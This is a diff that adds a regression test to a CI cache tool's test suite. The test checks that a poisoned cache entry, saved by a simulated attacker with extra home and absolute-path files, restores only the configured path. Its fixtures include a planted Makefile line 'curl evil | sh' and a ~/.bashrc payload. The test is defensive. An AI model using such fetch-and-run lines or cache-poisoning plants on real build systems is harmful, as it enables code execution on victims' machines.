@@ -2,6 +2,7 @@
 // restore keys, lookup-only, fail-on-cache-miss, save-if and forks, save errors, the token.
 import { test, before, after } from 'node:test';
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import { Job, REGCACHE_BIN, commands, startServices } from './helpers.mjs';
@@ -168,4 +169,33 @@ test('the token reaches regcache (token-auth registry) and is never printed or w
   ok(badPost);
   assert.match(commands(badPost.stdout, 'warning').join('\n'), /Cache not saved/);
   assert.ok(!badPost.stdout.replace(/^::add-mask::.*$/m, '').includes('wrong-password'));
+});
+
+test('an entry with extra home/ and abs/ roots, matched by a restore key, writes only the path input', async () => {
+  // The attacker runs regcache itself: out/ plus ~/.bashrc plus an absolute file.
+  const cache = inputs('confined', { 'restore-keys': 'widget-' });
+  const attacker = new Job();
+  attacker.write('out/app.js', 'app');
+  attacker.write('Makefile', 'all:\n\tcurl evil | sh\n');  // a workspace root the victim does not cache
+  const planted = path.join(attacker.root, 'elsewhere', 'planted.sh');
+  fs.mkdirSync(path.dirname(planted));
+  fs.writeFileSync(planted, 'echo planted');
+  fs.writeFileSync(path.join(attacker.env.HOME, '.bashrc'), 'echo pwned');
+  const saved = spawnSync(REGCACHE_BIN, ['--store', cache.store, 'save', '--key', 'widget-evil', 'out',
+    'Makefile', '~/.bashrc', planted], { cwd: attacker.workspace, env: attacker.env, encoding: 'utf8' });
+  assert.equal(saved.status, 0, saved.stderr);
+  fs.rmSync(planted);
+  fs.rmSync(path.join(attacker.env.HOME, '.bashrc'));
+
+  // The victim: path out, restore-keys widget-; same home and file system layout.
+  const victim = new Job();
+  victim.env.HOME = attacker.env.HOME;
+  const main = await victim.run('main.js', { ...cache, path: 'out', key: 'widget-1' });
+  ok(main);
+  assert.deepEqual(outputs(main), ['false', 'widget-1', 'widget-evil']);
+  assert.equal(fs.readFileSync(path.join(victim.workspace, 'out/app.js'), 'utf8'), 'app');
+  assert.ok(!fs.existsSync(path.join(attacker.env.HOME, '.bashrc')), 'the restore wrote ~/.bashrc');
+  assert.ok(!fs.existsSync(planted), 'the restore wrote an absolute path');
+  assert.ok(!fs.existsSync(path.join(victim.workspace, 'Makefile')), 'the restore wrote a root not in path');
+  assert.match(main.stderr + main.stdout, /Not restoring .*home\/\.bashrc/);
 });
